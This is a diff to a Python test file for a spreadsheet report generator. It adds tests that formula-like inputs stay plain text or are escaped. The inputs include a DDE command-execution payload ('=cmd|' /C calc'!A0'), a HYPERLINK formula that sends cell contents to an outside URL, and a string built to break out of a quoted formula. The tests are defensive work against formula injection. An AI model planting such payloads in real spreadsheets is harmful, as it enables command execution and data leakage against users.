@@ -17,7 +17,7 @@ from tests.support.word import audit, sdk_validate
 from reportgen.errors import UsageProblem
 from reportgen.model.document import Block, Document, Heading, Metadata, PageTurn, Paragraph, Role
 from reportgen.model.facts import Fact
-from reportgen.model.formula import Total
+from reportgen.model.formula import Graded, Total
 from reportgen.model.inline import Number, Text
 from reportgen.model.look import Looks
 from reportgen.model.table import Cell, CellRole, Table
@@ -196,10 +196,24 @@ def test_what_a_total_adds_up_is_a_number_whatever_its_words() -> None:
     assert (made_sheet["A2"].value, made_sheet["A2"].number_format) == (2, '"约"0_ ')
 
 
-@pytest.mark.parametrize("text", ["=1+1", "http://example.org/", "2021-04-15", "00123", "@甲", "{=1}", "一\n二"])
+FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "{=1}", "=cmd|' /C calc'!A0", '=HYPERLINK("http://例/"&A1)']
+"""What spreadsheets take for formulas where somebody types it, or reads it from a text."""
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, "http://example.org/", "2021-04-15", "00123", "@甲", "一\n二"])
 def test_words_stay_words(text: str) -> None:
     cell = sheet(one_column(text))["A2"]
     assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)
+
+
+def test_the_words_of_a_pack_end_no_formula() -> None:
+    """A pack that somebody sends names its grades; they are words within a formula."""
+    evil = '优",HYPERLINK("http://例/"&A2),"'
+    grade = Cell(
+        1, 1, ((Text(evil),),), CellRole.TEXT, formula=Graded((1, 0), ((evil, Decimal(90)), ("差", Decimal(0))))
+    )
+    made = sheet(Table((Decimal(50),) * 2, (words(0, 0, "得分"), words(0, 1, "等级"), figure(1, 0, "95分"), grade), 2))
+    assert made["B3"].value == '=IF(A3>=90,"优"",HYPERLINK(""http://例/""&A2),""","差")'
 
 
 def test_the_columns_fill_the_type_area_in_the_tables_proportions() -> None:
